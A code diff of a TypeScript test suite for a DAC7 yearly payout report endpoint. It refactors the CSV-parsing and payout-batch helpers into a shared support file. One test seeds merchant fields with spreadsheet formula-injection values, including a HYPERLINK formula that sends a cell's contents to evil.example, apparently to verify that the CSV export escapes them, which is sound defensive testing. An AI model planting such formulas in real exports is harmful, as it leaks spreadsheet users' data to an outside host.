@@ -3,43 +3,10 @@ import { DAC7_COLUMNS } from '../../../backend/src/dac7/dac7-report.service';
 import { eq } from 'drizzle-orm';
 import { merchantPayoutDetails } from '../../../backend/src/payout-details/payout-details.schema';
 import { merchantRequests } from '../../../backend/src/merchants/merchants.schema';
-import { payoutBatches, payoutLines } from '../../../backend/src/payouts/payouts.schema';
 import type { TestApp } from '../../support/app';
-import { approvedMerchant, confirmedWorkshop, createSpaceApp } from '../merchant-space/support';
+import { approvedMerchant, createSpaceApp } from '../merchant-space/support';
 import { companyForm } from '../payout-details/support';
-
-/** RFC 4180 as csv-stringify writes it: quoted fields may hold commas, quotes (doubled) and line breaks. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  const endField = () => {
-    row.push(field);
-    field = '';
-  };
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted && c === '"' && text[i + 1] === '"') {
-      field += '"';
-      i++;
-    } else if (quoted && c === '"') quoted = false;
-    else if (quoted) field += c;
-    else if (c === '"') quoted = true;
-    else if (c === ',') endField();
-    else if (c === '\r' && text[i + 1] === '\n') {
-      endField();
-      rows.push(row);
-      row = [];
-      i++;
-    } else field += c;
-  }
-  if (field || row.length) {
-    endField();
-    rows.push(row);
-  }
-  return rows;
-}
+import { parseCsv, sentBatch } from './support';
 
 describe('The yearly platform report (GET /api/admin/reports/dac7)', () => {
   let t: TestApp;
@@ -47,42 +14,6 @@ describe('The yearly platform report (GET /api/admin/reports/dac7)', () => {
   let person: { id: string; token: string };
   let unpaid: { id: string; token: string };
   let nextYear: { id: string; token: string };
-  let batchNumber = 0;
-
-  /** A transfer file with one line per [merchant, kind, amount, proposal?]; sent at `sentAt` unless null. */
-  type Workshop = { requestId: string; proposalId: string };
-  async function batch(sentAt: Date | null, lines: { merchant: string; kind?: 'workshop' | 'refund_debt'; amount: number; workshop?: Workshop }[]) {
-    const [row] = await t.db
-      .insert(payoutBatches)
-      .values({
-        reference: `TEST-${++batchNumber}`,
-        periodStart: '2026-01-01',
-        periodEnd: '2026-12-31',
-        status: sentAt ? 'sent' : 'generated',
-        totalCents: lines.reduce((sum, line) => sum + line.amount, 0),
-        xml: '<Document/>',
-        xmlSha256: 'x',
-        createdBy: 'test',
-        sentBy: sentAt ? 'test' : null,
-        sentAt,
-      })
-      .returning();
-    const workshops: Workshop[] = [];
-    for (const line of lines) {
-      const workshop = line.workshop ?? (await confirmedWorkshop(t, line.merchant, new Date('2026-01-10T14:00:00Z')));
-      await t.db.insert(payoutLines).values({
-        batchId: row.id,
-        merchantRequestId: line.merchant,
-        parentRequestId: workshop.requestId,
-        proposalId: workshop.proposalId,
-        kind: line.kind ?? 'workshop',
-        amountCents: line.amount,
-        workshopAt: new Date('2026-01-10T14:00:00Z'),
-      });
-      workshops.push(workshop);
-    }
-    return workshops;
-  }
 
   beforeAll(async () => {
     ({ t } = await createSpaceApp());
@@ -98,21 +29,21 @@ describe('The yearly platform report (GET /api/admin/reports/dac7)', () => {
       .expect(200);
 
     // Q1 2026 in Paris: from 2026-01-01 00:00 (2025-12-31 23:00 UTC) to 2026-03-31 23:59.
-    await batch(new Date('2025-12-31T22:59:00Z'), [{ merchant: company.id, amount: 11000 }]);
-    const [first] = await batch(new Date('2025-12-31T23:00:00Z'), [{ merchant: company.id, amount: 15000 }]);
-    await batch(new Date('2026-03-31T21:30:00Z'), [
+    await sentBatch(t, new Date('2025-12-31T22:59:00Z'), [{ merchant: company.id, amount: 11000 }]);
+    const [first] = await sentBatch(t, new Date('2025-12-31T23:00:00Z'), [{ merchant: company.id, amount: 15000 }]);
+    await sentBatch(t, new Date('2026-03-31T21:30:00Z'), [
       { merchant: company.id, amount: 12000 },
       { merchant: company.id, amount: 12000 },
     ]);
     // 2026-04-01 00:30 in Paris: Q2. The debt of a refunded workshop lowers the amount.
-    await batch(new Date('2026-03-31T22:30:00Z'), [
+    await sentBatch(t, new Date('2026-03-31T22:30:00Z'), [
       { merchant: company.id, amount: 12000 },
       { merchant: company.id, kind: 'refund_debt', amount: -15000, workshop: first },
     ]);
     // Generated, never sent: not paid.
-    await batch(null, [{ merchant: company.id, amount: 12000 }]);
-    await batch(new Date('2026-11-10T10:00:00Z'), [{ merchant: person.id, amount: 13000 }]);
-    await batch(new Date('2026-12-31T23:00:00Z'), [{ merchant: nextYear.id, amount: 12000 }]);
+    await sentBatch(t, null, [{ merchant: company.id, amount: 12000 }]);
+    await sentBatch(t, new Date('2026-11-10T10:00:00Z'), [{ merchant: person.id, amount: 13000 }]);
+    await sentBatch(t, new Date('2026-12-31T23:00:00Z'), [{ merchant: nextYear.id, amount: 12000 }]);
   });
   afterAll(() => t.close());
 
@@ -184,8 +115,8 @@ describe('The yearly platform report (GET /api/admin/reports/dac7)', () => {
       .set({ legalName: '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', addressLine: '+33 rue du Calcul', city: '-Dijon', accountHolder: '@SUM(A1:A9)', postalCode: '\t21000' })
       .where(eq(merchantPayoutDetails.merchantRequestId, typed.id));
     await t.db.update(merchantRequests).set({ establishmentName: '\rEee Formules' }).where(eq(merchantRequests.id, typed.id));
-    const [workshop] = await batch(new Date('2027-02-01T10:00:00Z'), [{ merchant: typed.id, amount: 12000 }]);
-    await batch(new Date('2027-05-01T10:00:00Z'), [{ merchant: typed.id, kind: 'refund_debt', amount: -12000, workshop }]);
+    const [workshop] = await sentBatch(t, new Date('2027-02-01T10:00:00Z'), [{ merchant: typed.id, amount: 12000 }]);
+    await sentBatch(t, new Date('2027-05-01T10:00:00Z'), [{ merchant: typed.id, kind: 'refund_debt', amount: -12000, workshop }]);
 
     const [header, row] = parseCsv((await report(2027)).text.slice(1));
     const record = Object.fromEntries(header.map((column, i) => [column, row[i]]));
